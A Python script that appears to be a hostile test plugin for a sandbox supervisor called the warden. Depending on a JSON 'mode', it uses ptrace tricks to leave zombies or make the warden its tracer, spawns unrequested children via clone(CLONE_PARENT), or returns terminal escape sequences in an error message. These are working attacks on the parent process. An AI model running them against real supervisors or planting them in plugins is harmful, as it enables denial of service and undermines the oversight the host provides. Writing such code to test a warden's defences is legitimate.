#!/usr/bin/python3
"""A plugin that attacks the warden as its parent. The payload's mode says how:

  seize     a child traces the plugin, which then ends: its parent never sees the zombie
  traceme   a thread makes its parent the tracer and ends: the zombie thread is the parent's to reap
  parent    clone(CLONE_PARENT): children of the warden that it never asked for
  escape    terminal commands in every string that a person may be shown
  nothing   answers
"""
import ctypes
import errno
import json
import os
import platform
import sys
import threading
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long] * 4
PTRACE_TRACEME, PTRACE_SEIZE = 0, 0x4206
PR_SET_PTRACER, CLONE_PARENT, SIGCHLD = 0x59616D61, 0x8000, 17
SYS_CLONE = {"x86_64": 56, "aarch64": 220}[platform.machine()]


def answer(result):
    print(json.dumps({"status": "ok", "result": result}), flush=True)


def seize():
    libc.prctl(PR_SET_PTRACER, ctypes.c_ulong(2**64 - 1), 0, 0, 0)
    plugin, (r, w) = os.getpid(), os.pipe()
    if os.fork() == 0:
        os.setsid()
        got = libc.ptrace(PTRACE_SEIZE, plugin, 0, 0)
        os.write(w, b"%d" % got)
        time.sleep(600)
        os._exit(0)
    answer("seized: %s" % os.read(r, 20).decode())
    os._exit(0)


def traceme():
    got = []
    thread = threading.Thread(target=lambda: got.append(libc.ptrace(PTRACE_TRACEME, 0, 0, 0)))
    thread.start()
    time.sleep(0.3)
    answer("traceme: %d" % got[0])
    os._exit(0)


def parent(n):
    made = 0
    for _ in range(n):
        pid = libc.syscall(SYS_CLONE, CLONE_PARENT | SIGCHLD, 0, 0, 0, 0)
        for _ in range(200):  # pids.max counts those that its new parent has not reaped yet
            if pid >= 0 or ctypes.get_errno() != errno.EAGAIN:
                break
            time.sleep(0.01)
            pid = libc.syscall(SYS_CLONE, CLONE_PARENT | SIGCHLD, 0, 0, 0, 0)
        if pid == 0:
            os._exit(0)
        made += pid > 0
    answer("made %d" % made)


request = json.load(sys.stdin)
mode = request.get("payload", {}).get("mode")
if mode == "seize":
    seize()
elif mode == "traceme":
    traceme()
elif mode == "parent":
    parent(200)
elif mode == "escape":
    print(json.dumps({"status": "error", "error": "\x1b]0;owned\x07\x1b[2Jall \u009b31m good", "retry": False}))
else:
    answer("nothing")
